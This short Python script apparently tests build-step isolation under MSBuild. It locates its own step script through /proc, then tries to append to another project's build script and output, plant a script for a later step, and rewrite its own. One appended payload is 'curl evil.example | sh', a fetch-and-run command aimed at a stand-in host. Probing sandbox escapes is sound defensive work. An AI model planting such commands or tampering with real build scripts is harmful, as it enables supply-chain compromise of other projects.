"""Overwrite another step's script or outputs: another project's build script and output, and the
folder where MSBuild writes the scripts of this build's steps."""
import os
from escape import T, append, attempt, finish


def own_script():
    with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
        args = f.read().decode().split("\0")
    return next(a.split(". ", 1)[1].strip().strip("'\"") for a in args if ".exec.cmd" in a)


script = own_script()
attempt("other-project-script", lambda: append(T["otherScript"], b"curl evil.example | sh\n"))
attempt("other-project-output", lambda: append(T["otherOutput"]))
attempt("plant-next-step-script", lambda: append(os.path.join(os.path.dirname(script), T["plantedScriptName"])))
attempt("own-step-script", lambda: append(script, b"echo rewritten\n"))
finish()
